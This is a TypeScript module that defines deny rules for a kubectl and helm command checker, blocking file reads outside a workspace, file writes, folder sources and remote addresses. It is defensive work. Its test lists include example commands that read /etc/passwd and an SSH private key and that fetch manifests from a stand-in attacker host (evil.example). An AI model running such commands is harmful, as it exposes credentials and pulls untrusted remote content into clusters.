import type { JudgeOptions } from "../../judge.ts";
import { defineRule } from "../rule.ts";

/** What kubectl expands itself, or a shell would. */
const EXPANDED = /[~*?[]/;

function isBelow(path: string, root: string): boolean {
  const clean = root.replace(/^\.\//, "").replace(/\/+$/, "");
  if (clean === "." || clean === "") return true;
  const relative = path.replace(/^\.\//, "");
  return relative === clean || relative.startsWith(`${clean}/`);
}

/** Why a path may not be read, undefined where it may. */
function problemOf(path: string, { workspace = ["."] }: JudgeOptions): string | undefined {
  if (path === "") return "names no file";
  if (path.startsWith("/") || /^[A-Za-z]:/.test(path) || path.includes("\\")) return "is not a relative path";
  if (EXPANDED.test(path)) return "holds a character that would be expanded";
  const components = path.split("/").filter((component, at) => component !== "" && !(component === "." && at === 0));
  if (components.some((component) => component.startsWith("."))) return "has a component that begins with a dot";
  if (workspace.length === 0) return "cannot be read: no workspace is configured";
  return workspace.some((root) => isBelow(path, root))
    ? undefined
    : `lies outside of the workspace (${workspace.join(", ")})`;
}

export const fileRead = defineRule({
  id: "K8S420",
  slug: "file-read",
  severity: "high",
  decision: "deny",
  summary: "Reads a file of this machine: only one below the workspace may be read, by a relative path.",
  instead: "Pass the content with the call's stdin, and write - for the file.",
  overridable: false,
  *check(stage, { options }) {
    for (const { value, access, span } of stage.files) {
      if (access !== "read") continue;
      const problem = problemOf(value, options);
      if (problem === undefined)
        yield { span, decision: "allow", message: `Reads "${value}" of the workspace.`, covers: ["host-read"] };
      else yield { span, message: `The file "${value}" ${problem}.`, covers: ["host-read"] };
    }
  },
  match: [
    "kubectl apply -f /etc/passwd",
    "kubectl apply -f ../x.yaml",
    "kubectl create cm x --from-file=k=.ssh/id_rsa",
    "kubectl get pods -ogo-template-file=/etc/passwd",
    "kubectl apply -f '*.yaml'",
    { command: "kubectl apply -f x.yaml", options: { workspace: [] } },
    { command: "kubectl apply -f x.yaml", options: { workspace: ["manifests"] } },
    "helm install web ./chart -f /etc/values.yaml",
    "kubectl apply -f /etc/passwd --help",
  ],
  notMatch: ["kubectl get pods", "kubectl apply -f -"],
});

export const fileWrite = defineRule({
  id: "K8S421",
  slug: "file-write",
  severity: "critical",
  decision: "deny",
  summary: "Writes a file of this machine.",
  instead: "Leave the flag out: the output is returned.",
  overridable: false,
  *check(stage) {
    for (const { access, flag, span } of stage.files) {
      if (access === "write")
        yield { span, message: `--${flag} writes a file of this machine.`, covers: ["host-write"] };
    }
  },
  match: ["kubectl cluster-info dump --output-directory=/tmp/x", "kubectl kustomize . -o out.yaml"],
  notMatch: ["kubectl cluster-info dump", "kubectl cluster-info dump --output-directory=-"],
});

export const folderSource = defineRule({
  id: "K8S422",
  slug: "folder-source",
  severity: "medium",
  decision: "deny",
  summary: "Reads every file of a folder, those too that a listing hides.",
  instead: "Name each file: --from-file=KEY=PATH",
  overridable: false,
  *check(stage) {
    for (const { flag, value, span } of stage.modifiers) {
      if (flag !== "from-folder") continue;
      yield { span, message: `"${value}" may be a folder, and every file in it would be read.` };
    }
  },
  match: ["kubectl create cm x --from-file=config/", "kubectl create cm x --from-file=conf.d"],
  notMatch: [
    "kubectl create cm x --from-file=app.properties",
    "kubectl create cm x --from-file=config=config",
    { command: "kubectl create cm x --from-file=conf", options: { files: { "conf/a": "1" } } },
  ],
});

export const address = defineRule({
  id: "K8S423",
  slug: "address",
  severity: "critical",
  decision: "deny",
  summary: "Fetches from or connects to an address.",
  instead: "Pass the content with the call's stdin, and write - for the address.",
  overridable: false,
  *check(stage, { options }) {
    for (const { value, host, span } of stage.addresses) {
      const listed = host !== undefined && (options.hosts ?? []).includes(host);
      if (listed) yield { span, decision: "allow", message: `Fetches from the listed host ${host}.` };
      else yield { span, message: `"${value}" is an address, and the client would connect to it.` };
    }
  },
  match: [
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl apply -k github.com/evil/repo",
    "kubectl kustomize git::ssh://git@evil.example/repo.git",
    "kubectl apply -f file:///etc/passwd",
    { command: "kubectl apply -f https://a.example/x.yaml", options: { hosts: ["b.example"] } },
  ],
  notMatch: ["kubectl create cm x --from-literal=url=https://a.example", "kubectl apply -f x.yaml"],
});
